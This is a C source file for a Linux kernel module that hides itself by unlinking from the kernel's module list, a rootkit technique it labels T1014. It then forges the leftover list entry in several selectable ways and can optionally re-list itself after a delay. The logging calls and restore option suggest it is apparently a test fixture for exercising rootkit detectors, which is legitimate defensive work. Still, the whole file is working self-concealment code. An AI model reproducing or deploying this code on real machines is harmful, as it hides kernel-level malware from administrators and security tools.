// SPDX-License-Identifier: GPL-2.0-only
/* Unlinks itself from the list of modules (T1014), and forges what remains in the entry; may come back after a while. */
#include "modhide.h"

#include <linux/workqueue.h>

static char *links = "poison";
module_param(links, charp, 0444);
MODULE_PARM_DESC(links, "left in the list entry: poison, swapped, neighbours, self, odd");
static int restore_after;
module_param(restore_after, int, 0444);
MODULE_PARM_DESC(restore_after, "seconds until it is listed again, and may be unloaded (0: never)");

static void hide(struct work_struct *work);
static void restore(struct work_struct *work);
static DECLARE_DELAYED_WORK(hide_work, hide);
static DECLARE_DELAYED_WORK(restore_work, restore);

static void hide(struct work_struct *work)
{
	struct list_head *list = &THIS_MODULE->list, before = *list;
	unsigned long base, size;

	modhide_list();
	if (strcmp(links, "swapped") == 0)
		*list = (struct list_head){ .next = LIST_POISON2, .prev = LIST_POISON1 };
	else if (strcmp(links, "neighbours") == 0)
		*list = before;
	else if (strcmp(links, "self") == 0)
		INIT_LIST_HEAD(list);
	else if (strcmp(links, "odd") == 0)
		*list = (struct list_head){ .next = (void *)0x37373731,
					    .prev = (void *)0x22373717 };
	modhide_where(&base, &size);
	attack_log("hidden links=%s module=0x%lx base=0x%lx size=0x%lx", links,
		   (unsigned long)THIS_MODULE, base, size);
	if (restore_after > 0)
		schedule_delayed_work(&restore_work, restore_after * HZ);
}

static void restore(struct work_struct *work)
{
	modhide_list_undo();
	attack_log("restored module=0x%lx", (unsigned long)THIS_MODULE);
}

static int __init attack_init(void)
{
	schedule_delayed_work(&hide_work, HZ / 10);
	return 0;
}

static void __exit attack_exit(void)
{
	cancel_delayed_work_sync(&hide_work);
	cancel_delayed_work_sync(&restore_work);
}

module_init(attack_init);
module_exit(attack_exit);
